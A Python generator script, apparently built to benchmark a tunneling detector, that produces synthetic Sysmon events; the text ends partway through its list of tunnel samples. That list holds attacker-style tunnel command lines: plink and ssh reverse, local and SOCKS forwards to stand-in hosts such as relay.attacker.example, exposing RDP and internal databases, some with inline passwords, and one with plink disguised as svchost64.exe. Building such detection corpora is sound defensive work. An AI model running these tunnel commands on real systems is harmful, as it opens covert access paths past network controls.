#!/usr/bin/env python3
"""Generate a realistic Sysmon corpus for benchmarking `tunnelhunt scan`.

The events are in the evtx JSON shape (`{"Event":{"System":…,"EventData":…}}`,
as `evtx_dump` writes it), mostly benign Sysmon telemetry from a Windows
estate:

* EID 1  process creation (real Windows images, command lines, parents,
         users, integrity levels, hashes tied to the image),
* EID 3  network connection,
* EID 22 DNS query,
* EID 13 registry value set,

plus a few hundred protocol-tunneling events (plink/ssh -L/-R/-D, netsh
portproxy and its registry key, chisel, ligolo, frp, ngrok, cloudflared,
iodine, dnscat2, socat, gost, DoH from odd processes, DNS-tunnel query
shapes, …) spread evenly through the corpus, and benign look-alikes
(`ssh -l`, `ssh -W`, TortoiseGitPlink, a sanctioned backup tunnel).

Formats:
  jsonl      one event per line (`evtx_dump -o jsonl`)
  evtx-json  pretty-printed documents, concatenated (`evtx_dump -o json`
             without the `Record N` lines; several SigmaHQ regression files
             look like this)

Output is streamed in ~4 MiB batches: memory stays flat whatever --size-gb.
The same --seed, --size-gb, --format and --files give byte-identical files.
A manifest (`<stem>.manifest.json`) lists the event counts and every
tunneling event (file, line, kind, and which example rule should fire).

Python 3 standard library only.
"""

import argparse
import json
import os
import random
import sys
import time

# --------------------------------------------------------------------------
# Value pools
# --------------------------------------------------------------------------

FIRST = ["james", "mary", "john", "patricia", "robert", "jennifer", "michael",
         "linda", "william", "elizabeth", "david", "barbara", "richard", "susan",
         "joseph", "jessica", "thomas", "sarah", "charles", "karen", "anna",
         "lukas", "sofia", "noah", "emma", "mateo", "yuki", "haruto", "priya",
         "arjun", "olga", "ivan", "fatima", "omar", "chen", "wei", "lea", "jonas"]
LAST = ["smith", "johnson", "williams", "brown", "jones", "garcia", "miller",
        "davis", "rodriguez", "martinez", "hernandez", "lopez", "gonzalez",
        "wilson", "anderson", "thomas", "taylor", "moore", "jackson", "martin",
        "lee", "perez", "thompson", "white", "harris", "sanchez", "clark",
        "muller", "schmidt", "tanaka", "sato", "kumar", "singh", "ivanova"]

DOMAIN = "CORP"
FQDN = "corp.example"

SYSTEM_USERS = ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE",
                "NT AUTHORITY\\NETWORK SERVICE"]

INTERNAL_HOSTS = ["dc01", "dc02", "fs01", "fs02", "sql01", "sql02", "web01",
                  "web02", "exch01", "sccm01", "wsus01", "build01", "build02",
                  "git", "jira", "wiki", "print01", "av01", "backup01", "bastion",
                  "proxy01", "app01", "app02", "app03", "db01", "mon01"]

PUBLIC_DOMAINS = [
    "www.google.com", "clients4.google.com", "update.googleapis.com",
    "login.microsoftonline.com", "outlook.office365.com", "graph.microsoft.com",
    "teams.microsoft.com", "onedrive.live.com", "settings-win.data.microsoft.com",
    "v10.events.data.microsoft.com", "ctldl.windowsupdate.com",
    "fe2.update.microsoft.com", "slscr.update.microsoft.com",
    "download.windowsupdate.com", "edge.microsoft.com", "www.bing.com",
    "github.com", "api.github.com", "objects.githubusercontent.com",
    "registry.npmjs.org", "pypi.org", "files.pythonhosted.org",
    "static.crates.io", "index.crates.io", "slack.com", "wss-primary.slack.com",
    "zoom.us", "www.youtube.com", "i.ytimg.com", "fonts.gstatic.com",
    "cdn.jsdelivr.net", "ajax.googleapis.com", "ocsp.digicert.com",
    "crl3.digicert.com", "ocsp.sectigo.com", "www.wikipedia.org",
    "en.wikipedia.org", "stackoverflow.com", "docs.python.org",
    "aws.amazon.com", "s3.amazonaws.com", "dropbox.com", "www.dropbox.com",
    "www.linkedin.com", "api.segment.io", "sentry.io", "browser-intake-datadoghq.com",
    "licensing.adobe.com", "cc-api-data.adobe.io", "ipv6.msftconnecttest.com",
    "www.msftconnecttest.com", "time.windows.com", "wpad.corp.example",
]

PUBLIC_IPS = ["142.250.74.%d", "13.107.42.%d", "20.190.159.%d", "52.96.165.%d",
              "140.82.121.%d", "151.101.1.%d", "104.16.85.%d", "23.54.12.%d",
              "40.126.32.%d", "93.184.216.%d", "172.217.16.%d", "52.84.150.%d"]

REPOS = ["platform/agent", "platform/api", "web/portal", "infra/terraform",
         "data/etl", "tools/scripts", "mobile/app", "sec/detections"]

DOCS = ["Q3 budget.xlsx", "Board deck.pptx", "Contract-2026-114.docx",
        "meeting notes.docx", "roadmap.xlsx", "invoice_88213.pdf",
        "vacation request.docx", "architecture.vsdx", "report.pdf"]

SERVICES = ["wuauserv", "BITS", "Dnscache", "LanmanWorkstation", "Schedule",
            "WinHttpAutoProxySvc", "DiagTrack", "CryptSvc", "EventLog",
            "Themes", "AudioSrv", "Spooler", "W32Time", "WinDefend", "sppsvc"]


def jesc(s):
    """A Python string as a JSON string literal (with quotes)."""
    return json.dumps(s, ensure_ascii=False)


def hexs(rng, n):
    return "%0*X" % (n, rng.getrandbits(4 * n))


# Process catalogue: image, OriginalFileName, Description, Product, Company,
# FileVersion, parents, users ("user"/"system"/"any"), integrity, command
# line templates (`{h}` internal host, `{u}` user name, `{n}` number,
# `{d}` document, `{r}` repo, `{s}` service, `{g}` guid, `{dom}` public domain,
# `{p}` pid).
WIN = "C:\\Windows\\System32\\"
WINV = "10.0.19041.4355 (WinBuild.160101.0800)"
MS = "Microsoft Corporation"
MSW = "Microsoft® Windows® Operating System"

PROCS = [
    # (weight, image, ofn, desc, product, company, version, parents, users, integrity, cmds)
    (10, WIN + "svchost.exe", "svchost.exe", "Host Process for Windows Services", MSW, MS, WINV,
     ["services"], "system", "System",
     ["C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {s}",
      "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p",
      "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC",
      "C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{n}",
      "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache"]),
    (6, WIN + "conhost.exe", "CONHOST.EXE", "Console Window Host", MSW, MS, WINV,
     ["cmd", "powershell", "git", "python"], "any", "Medium",
     ["\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
      "\\??\\C:\\Windows\\system32\\conhost.exe 0x4"]),
    (5, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe",
     "Google Chrome", "Google Chrome", "Google LLC", "128.0.6613.120",
     ["explorer", "chrome"], "user", "Medium",
     ["\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id={n} --launch-time-ticks={n}{n} --mojo-platform-channel-handle={n} /prefetch:1",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:8",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle={n} /prefetch:2"]),
    (4, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe",
     "Microsoft Edge", "Microsoft Edge", MS, "128.0.2739.67",
     ["explorer", "msedge"], "user", "Medium",
     ["\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://{dom}/",
      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer --instant-process --lang=en-US --renderer-client-id={n} /prefetch:1"]),
    (3, WIN + "cmd.exe", "Cmd.Exe", "Windows Command Processor", MSW, MS, WINV,
     ["explorer", "services", "taskeng", "code"], "any", "Medium",
     ["\"C:\\Windows\\system32\\cmd.exe\"",
      "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Program Files\\Git\\cmd\\git.exe\" status\"",
      "cmd.exe /c dir \\\\{h}.corp.example\\share$",
      "C:\\Windows\\system32\\cmd.exe /c ipconfig /all",
      "cmd.exe /c echo %TEMP%",
      "C:\\Windows\\System32\\cmd.exe /d /s /c \"npm run build\""]),
    (3, WIN + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE",
     "Windows PowerShell", MSW, MS, WINV,
     ["explorer", "cmd", "sccm", "services"], "any", "High",
     ["\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"",
      "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\CorpIT\\inventory.ps1",
      "powershell.exe -NoLogo -Command Get-Service {s}",
      "\"powershell.exe\" -NonInteractive -Command \"Get-ChildItem -Path C:\\Users\\{u}\\Documents | Measure-Object\"",
      "powershell.exe -Command Test-NetConnection {h}.corp.example -Port 445"]),
    (3, WIN + "RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", MSW, MS, WINV,
     ["svchost"], "user", "Medium",
     ["C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"]),
    (2, WIN + "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", MSW, MS, WINV,
     ["svchost"], "user", "Medium",
     ["taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}", "taskhostw.exe Install $(Arg0)"]),
    (2, WIN + "backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host", MSW, MS, WINV,
     ["svchost"], "user", "Low",
     ["\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"]),
    (2, WIN + "wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", MSW, MS, WINV,
     ["svchost"], "system", "System",
     ["C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
      "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"]),
    (2, WIN + "SearchProtocolHost.exe", "SearchProtocolHost.exe",
     "Microsoft Windows Search Protocol Host", MSW, MS, WINV,
     ["searchindexer"], "system", "System",
     ["\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\""]),
    (2, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Outlook.exe",
     "Microsoft Outlook", "Microsoft Office", MS, "16.0.17928.20156",
     ["explorer"], "user", "Medium",
     ["\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\"",
      "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\" /recycle"]),
    (2, "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Excel.exe",
     "Microsoft Excel", "Microsoft Office", MS, "16.0.17928.20156",
     ["explorer", "outlook"], "user", "Medium",
     ["\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\{u}\\Documents\\{d}\"",
      "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" /dde"]),
    (2, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe",
     "Microsoft Word", "Microsoft Office", MS, "16.0.17928.20156",
     ["explorer", "outlook"], "user", "Medium",
     ["\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{u}\\Downloads\\{d}\" /o \"\""]),
    (2, "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe",
     "Microsoft Teams", "Microsoft Teams", MS, "1.7.00.13456",
     ["explorer", "teams"], "user", "Medium",
     ["\"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle={n},{n} --lang=en-US /prefetch:1",
      "\"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --system-initiated"]),
    (2, "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe", "Git for Windows", "Git", "The Git Development Community", "2.46.0.windows.1",
     ["cmd", "code", "powershell"], "user", "Medium",
     ["\"C:\\Program Files\\Git\\cmd\\git.exe\" fetch -v --progress origin",
      "git.exe status --porcelain=v2 --branch",
      "git pull --rebase origin main",
      "\"C:\\Program Files\\Git\\cmd\\git.exe\" clone ssh://git@git.corp.example/{r}.git",
      "git.exe -c core.quotepath=false log --format=%H -n 50"]),
    (1, "C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "electron.exe",
     "Visual Studio Code", "Visual Studio Code", MS, "1.93.0",
     ["explorer", "code"], "user", "Medium",
     ["\"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:8"]),
    (1, "C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe", "python.exe",
     "Python", "Python", "Python Software Foundation", "3.11.7",
     ["cmd", "code", "powershell"], "user", "Medium",
     ["python.exe -m pytest tests -q", "python manage.py runserver 127.0.0.1:8000",
      "\"C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe\" -m pip install -r requirements.txt",
      "python.exe scripts\\etl.py --date 2026-11-{n}"]),
    (1, WIN + "OpenSSH\\ssh.exe", "ssh.exe", "OpenSSH SSH client", "OpenSSH for Windows", MS, "9.5.0.0",
     ["cmd", "powershell", "git", "code"], "user", "Medium",
     # benign look-alikes: a login name, a port, a jump host (-W), git over ssh
     ["ssh -l {u} {h}.corp.example", "ssh.exe -p 2222 {u}@{h}.corp.example",
      "ssh -W {h}.corp.example:22 {u}@bastion.corp.example",
      "C:/Windows/System32/OpenSSH/ssh.exe git@git.corp.example \"git-upload-pack '{r}.git'\"",
      "ssh.exe -o StrictHostKeyChecking=accept-new -i C:\\Users\\{u}\\.ssh\\id_ed25519 {u}@{h}.corp.example uptime",
      "ssh -J bastion.corp.example {u}@{h}.corp.example"]),
    (1, "C:\\Program Files\\TortoiseGit\\bin\\TortoiseGitPlink.exe", "TortoiseGitPlink.exe",
     "TortoiseGitPlink, based on PuTTY's plink", "TortoiseGit", "https://tortoisegit.org", "2.15.0.0",
     ["git"], "user", "Medium",
     ["\"C:\\Program Files\\TortoiseGit\\bin\\TortoiseGitPlink.exe\" -batch -P 22 git@git.corp.example \"git-upload-pack '/{r}.git'\""]),
    (1, WIN + "netsh.exe", "netsh.exe", "Network Command Shell", MSW, MS, WINV,
     ["cmd", "powershell", "svchost"], "any", "High",
     # benign netsh: no portproxy verb
     ["netsh wlan show interfaces", "netsh interface ipv4 show addresses",
      "netsh advfirewall show allprofiles", "netsh winhttp show proxy",
      "netsh interface portproxy show all"]),
    (1, WIN + "reg.exe", "reg.exe", "Registry Console Tool", MSW, MS, WINV,
     ["cmd", "powershell"], "any", "High",
     ["reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s",
      "reg.exe query \"HKCU\\Software\\Microsoft\\Office\\16.0\\Common\\Identity\" /v ADUserName"]),
    (1, WIN + "msiexec.exe", "msiexec.exe", "Windows® installer", MSW, MS, WINV,
     ["services", "sccm"], "system", "System",
     ["C:\\Windows\\system32\\msiexec.exe /V", "C:\\Windows\\System32\\MsiExec.exe -Embedding 7A2B{n}F3C1 E Global\\MSI0000"]),
    (1, "C:\\Windows\\CCM\\CcmExec.exe", "CcmExec.exe", "SMS Agent Host", "System Center Configuration Manager", MS, "5.0.9122.1000",
     ["services"], "system", "System", ["C:\\Windows\\CCM\\CcmExec.exe"]),
    (1, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24080.9-0\\MpCmdRun.exe", "MpCmdRun.exe",
     "Microsoft Malware Protection Command Line Utility", "Microsoft® Windows® Operating System", MS, "4.18.24080.9",
     ["msmpeng"], "system", "System",
     ["\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24080.9-0\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges -DailyReboot",
      "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24080.9-0\\MpCmdRun.exe\" -wdenable"]),
    (1, WIN + "WerFault.exe", "WerFault.exe", "Windows Problem Reporting", MSW, MS, WINV,
     ["svchost"], "user", "Medium", ["C:\\Windows\\system32\\WerFault.exe -u -p {p} -s {n}"]),
    (1, WIN + "rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", MSW, MS, WINV,
     ["svchost", "explorer"], "user", "Medium",
     ["C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:{n} WinX:0 WinY:0 IEFrame:0000000000000000",
      "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {{9aa46009-3ce0-458a-a354-715610a075e6}} -Embedding"]),
    (1, WIN + "dllhost.exe", "dllhost.exe", "COM Surrogate", MSW, MS, WINV,
     ["svchost"], "user", "Medium", ["C:\\Windows\\system32\\DllHost.exe /Processid:{{3EB3C877-1F16-487C-9050-104DBCD66683}}"]),
    (1, WIN + "gpupdate.exe", "GPUpdate.exe", "Microsoft® Windows Group Policy Update", MSW, MS, WINV,
     ["cmd", "svchost"], "any", "High", ["gpupdate /force", "gpupdate.exe /target:computer"]),
    (1, WIN + "whoami.exe", "whoami.exe", "whoami - displays logged on user information", MSW, MS, WINV,
     ["cmd", "powershell"], "user", "Medium", ["whoami", "whoami /groups"]),
    (1, WIN + "PING.EXE", "ping.exe", "TCP/IP Ping Command", MSW, MS, WINV,
     ["cmd", "powershell"], "user", "Medium", ["ping -n 4 {h}.corp.example", "ping {dom}"]),
    (1, WIN + "nslookup.exe", "nslookup.exe", "nslookup", MSW, MS, WINV,
     ["cmd", "powershell"], "user", "Medium", ["nslookup {h}.corp.example", "nslookup {dom} 10.0.0.10"]),
    (1, "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe", "7-Zip Console", "7-Zip", "Igor Pavlov", "23.01",
     ["cmd", "explorer"], "user", "Medium", ["\"C:\\Program Files\\7-Zip\\7z.exe\" x \"C:\\Users\\{u}\\Downloads\\archive{n}.zip\" -o\"C:\\Users\\{u}\\Downloads\\archive{n}\""]),
    (1, WIN + "notepad.exe", "NOTEPAD.EXE", "Notepad", MSW, MS, WINV,
     ["explorer"], "user", "Medium", ["\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\{u}\\Desktop\\todo.txt"]),
    (1, WIN + "sc.exe", "sc.exe", "Service Control Manager Configuration Tool", MSW, MS, WINV,
     ["cmd", "powershell"], "any", "High", ["sc query {s}", "sc.exe qc {s}"]),
    (1, WIN + "schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", MSW, MS, WINV,
     ["cmd", "powershell", "sccm"], "any", "High", ["schtasks /query /fo LIST /v", "schtasks.exe /Run /TN \"\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan\""]),
]

# Parents: key → (image, command line)
PARENTS = {
    "services": (WIN + "services.exe", "C:\\Windows\\system32\\services.exe"),
    "svchost": (WIN + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"),
    "explorer": ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    "cmd": (WIN + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\""),
    "powershell": (WIN + "WindowsPowerShell\\v1.0\\powershell.exe",
                   "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\""),
    "git": ("C:\\Program Files\\Git\\mingw64\\bin\\git.exe",
            "\"C:\\Program Files\\Git\\cmd\\git.exe\" fetch -v --progress origin"),
    "python": ("C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe", "python.exe -m pytest tests -q"),
    "code": ("C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
             "\"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\""),
    "chrome": ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
               "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""),
    "msedge": ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
               "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument"),
    "teams": ("C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
              "\"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\""),
    "outlook": ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\""),
    "taskeng": (WIN + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    "sccm": ("C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe"),
    "searchindexer": (WIN + "SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding"),
    "msmpeng": ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24080.9-0\\MsMpEng.exe",
                "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24080.9-0\\MsMpEng.exe\""),
}

# Network processes (EID 3): image, typical ports, destination kind
NET = [
    (8, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", [443, 443, 443, 80], "public", "user"),
    (5, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", [443, 443, 80], "public", "user"),
    (5, WIN + "svchost.exe", [443, 80, 53, 123, 135, 389], "mixed", "system"),
    (3, "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", [443, 3478, 3479], "public", "user"),
    (3, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", [443], "public", "user"),
    (3, "System", [445, 139], "internal", "system"),
    (2, WIN + "lsass.exe", [88, 389, 636, 3268], "dc", "system"),
    (2, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24080.9-0\\MsMpEng.exe", [443], "public", "system"),
    (2, "C:\\Windows\\CCM\\CcmExec.exe", [443, 80, 10123], "internal", "system"),
    (1, "C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe", [443], "public", "user"),
    (1, WIN + "OpenSSH\\ssh.exe", [22], "internal", "user"),
    (1, "C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe", [443, 5432, 8000], "mixed", "user"),
    (1, WIN + "WindowsPowerShell\\v1.0\\powershell.exe", [443, 5985], "mixed", "user"),
    (1, WIN + "mstsc.exe", [3389], "internal", "user"),
]
PORT_NAMES = {443: "https", 80: "http", 53: "domain", 123: "ntp", 135: "epmap",
              389: "ldap", 636: "ldaps", 88: "kerberos", 445: "microsoft-ds",
              139: "netbios-ssn", 3268: "msft-gc", 22: "ssh", 3389: "ms-wbt-server",
              5985: "wsman", 3478: "", 3479: "", 5432: "postgresql", 8000: "", 10123: ""}

# DNS querying processes (EID 22)
DNSPROC = [
    (8, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "public", "user"),
    (5, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "public", "user"),
    (5, WIN + "svchost.exe", "mixed", "system"),
    (3, "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "public", "user"),
    (3, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "public", "user"),
    (2, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24080.9-0\\MsMpEng.exe", "public", "system"),
    (2, "C:\\Windows\\CCM\\CcmExec.exe", "internal", "system"),
    (1, "C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe", "public", "user"),
    (1, WIN + "WindowsPowerShell\\v1.0\\powershell.exe", "mixed", "user"),
]

# Registry writers (EID 13): image, key template, details choices
REG = [
    (6, WIN + "svchost.exe", "HKLM\\System\\CurrentControlSet\\Services\\{s}\\Start", ["DWORD (0x00000002)", "DWORD (0x00000003)", "DWORD (0x00000004)"], "system"),
    (5, "C:\\Windows\\explorer.exe", "HKU\\S-1-5-21-1004336348-1177238915-682003330-{n}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\{n}", ["Binary Data"], "user"),
    (4, "C:\\Windows\\explorer.exe", "HKU\\S-1-5-21-1004336348-1177238915-682003330-{n}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}}\\Count\\HRZR_PGYFRFFVBA", ["Binary Data"], "user"),
    (3, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "HKU\\S-1-5-21-1004336348-1177238915-682003330-{n}\\Software\\Google\\Chrome\\PreferenceMACs\\Default\\extensions.settings\\{g}", ["{h}"], "user"),
    (3, WIN + "svchost.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Orchestrator\\UScheduler\\{n}\\ScheduledTime", ["QWORD (0x01db3{n}-0x5c2a9b00)"], "system"),
    (2, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24080.9-0\\MsMpEng.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated", ["Binary Data"], "system"),
    (2, "C:\\Windows\\CCM\\CcmExec.exe", "HKLM\\SOFTWARE\\Microsoft\\SMS\\Mobile Client\\Software Distribution\\Execution History\\System\\{g}\\_State", ["Success"], "system"),
    (2, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "HKU\\S-1-5-21-1004336348-1177238915-682003330-{n}\\Software\\Microsoft\\Office\\16.0\\Outlook\\Profiles\\Outlook\\{g}\\LastChangeVer", ["Binary Data"], "user"),
    (1, WIN + "lsass.exe", "HKLM\\System\\CurrentControlSet\\Services\\Netlogon\\Parameters\\SiteName", ["HQ-Site"], "system"),
    (1, WIN + "SearchIndexer.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows Search\\Gathering Manager\\Applications\\Windows\\GatheringSet\\Gather\\Windows\\SystemIndex\\TotalDocumentsCrawled", ["DWORD (0x0000{n})"], "system"),
]

# --------------------------------------------------------------------------
# Tunneling events: (kind, example rule expected to fire or None, builder)
# Built as EventData dicts by tunnel_event() below.
# --------------------------------------------------------------------------

EXT_IPS = ["198.51.100.23", "203.0.113.45", "45.77.12.9", "185.199.110.153",
           "91.219.236.18", "139.59.14.201", "167.99.88.7"]
EXT_HOSTS = ["vps1.example.net", "tun.example.org", "relay.attacker.example",
             "cdn-update.example.com", "files.example.net"]

# (kind, eid, expected example rule, fields)
TUNNELS = [
    ("plink -L", 1, "plink", dict(
        Image="C:\\Users\\Public\\plink.exe", OriginalFileName="Plink", Description="Command-line SSH, Telnet, and Rlogin client",
        Product="PuTTY suite", Company="Simon Tatham",
        CommandLine="plink.exe -ssh -N -L 13389:127.0.0.1:3389 -P 443 -batch svc@{x}")),
    ("plink -R", 1, "plink", dict(
        Image="C:\\ProgramData\\Updater\\plink.exe", OriginalFileName="Plink", Description="Command-line SSH, Telnet, and Rlogin client",
        Product="PuTTY suite", Company="Simon Tatham",
        CommandLine="plink.exe -batch -R 8080:127.0.0.1:80 -pw hunter2 tunnel@{x}")),
    ("plink -D attached", 1, "plink", dict(
        Image="C:\\Users\\{u}\\Downloads\\plink.exe", OriginalFileName="Plink", Description="Command-line SSH, Telnet, and Rlogin client",
        Product="PuTTY suite", Company="Simon Tatham",
        CommandLine="\"C:\\Users\\{u}\\Downloads\\plink.exe\" -D1080 -N -batch -hostkey ssh-ed25519 root@{x}")),
    ("plink renamed -R", 1, "plink", dict(
        Image="C:\\Windows\\Temp\\svchost64.exe", OriginalFileName="Plink", Description="Command-line SSH, Telnet, and Rlogin client",
        Product="PuTTY suite", Company="Simon Tatham",
        CommandLine="svchost64.exe -R 0.0.0.0:4443:127.0.0.1:3389 -l root -pw P@ss {x}")),
    ("ssh -L", 1, "ssh", dict(
        Image=WIN + "OpenSSH\\ssh.exe", OriginalFileName="ssh.exe", Description="OpenSSH SSH client",
        Product="OpenSSH for Windows", Company=MS,
        CommandLine="ssh.exe -N -L 8443:localhost:443 ops@{x}")),
    ("ssh -R", 1, "ssh", dict(
        Image=WIN + "OpenSSH\\ssh.exe", OriginalFileName="ssh.exe", Description="OpenSSH SSH client",
        Product="OpenSSH for Windows", Company=MS,
        CommandLine="ssh -R 2222:localhost:22 -o ServerAliveInterval=30 user@{x}")),
    ("ssh -D", 1, "ssh", dict(
        Image=WIN + "OpenSSH\\ssh.exe", OriginalFileName="ssh.exe", Description="OpenSSH SSH client",
        Product="OpenSSH for Windows", Company=MS,
        CommandLine="ssh.exe -D 1080 -q -C -N {u}@{x}")),
    ("ssh -NfL", 1, "ssh", dict(
        Image=WIN + "OpenSSH\\ssh.exe", OriginalFileName="ssh.exe", Description="OpenSSH SSH client",
        Product="OpenSSH for Windows", Company=MS,
        CommandLine="ssh -NfL 3306:db01.corp.example:3306 {u}@{x}")),
